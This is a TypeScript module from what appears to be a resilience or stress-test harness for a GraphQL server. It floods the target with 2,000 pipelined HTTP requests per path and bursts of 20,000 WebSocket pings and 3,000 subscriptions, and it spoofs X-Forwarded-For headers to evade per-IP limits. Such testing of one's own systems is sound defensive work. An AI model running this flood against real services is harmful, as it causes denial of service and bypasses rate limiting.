import { connect } from 'node:net'
import WebSocket from 'ws'
import type { Attack, Target } from '../attack.ts'

const body = JSON.stringify({ query: '{ faqCategories }' })

/** All at once on one connection; resolves when that many answers have come, or the server has ended it. */
function pipeline({ url, count }: Target, requests: number, one: string): Promise<void> {
  const { port, hostname } = new URL(url)
  return new Promise((resolve) => {
    let rest = ''
    let answers = 0
    const socket = connect(Number(port), hostname, () => socket.write(one.repeat(requests)))
    socket.on('data', (chunk) => {
      rest += chunk
      const found = [...rest.matchAll(/HTTP\/1\.1 (\d{3})/g)]
      for (const [, status] of found) count(Number(status))
      answers += found.length
      rest = rest.slice(-12)
      if (answers >= requests) socket.destroy()
    })
    socket.on('error', () => undefined)
    socket.on('close', () => resolve())
  })
}

/** So many frames in one burst, behind the beginning of the protocol; resolves once the last one has its answer. */
function burst(
  { url, newAddress }: Target,
  frames: (index: number) => object,
  frameCount: number,
): Promise<void> {
  return new Promise((resolve) => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
      headers: { 'x-forwarded-for': newAddress() },
    })
    socket.on('open', () => socket.send('{"type":"connection_init"}'))
    socket.on('message', (data) => {
      const { type, payload } = JSON.parse(String(data))
      if (type === 'connection_ack') {
        for (let index = 0; index < frameCount; index += 1) socket.send(JSON.stringify(frames(index)))
        socket.send('{"type":"ping","payload":{"last":true}}')
      }
      if (type === 'pong' && payload?.last) socket.close()
    })
    socket.on('error', () => undefined)
    socket.on('close', () => resolve())
  })
}

export const attack: Attack = {
  title: '2,000 pipelined requests, 20,000 pings, 3,000 operations in one burst each',
  async run(target) {
    const forwarded = `X-Forwarded-For: ${target.newAddress()}`
    const post = `POST /graphql HTTP/1.1\r\nHost: x\r\n${forwarded}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`
    target.say('requests')
    await pipeline(target, 2000, post)
    await pipeline(target, 2000, 'GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n')
    await pipeline(target, 2000, 'GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n')
    target.say('pings')
    await burst(target, () => ({ type: 'ping' }), 20_000)
    target.say('operations')
    const subscribe = (query: string) => (id: number) => ({
      type: 'subscribe',
      id: `${id}`,
      payload: { query },
    })
    await burst(target, subscribe('{ faqCategories }'), 3000)
    await burst(target, (id) => subscribe(`{ broken${id}`)(id), 3000)
    return []
  },
}
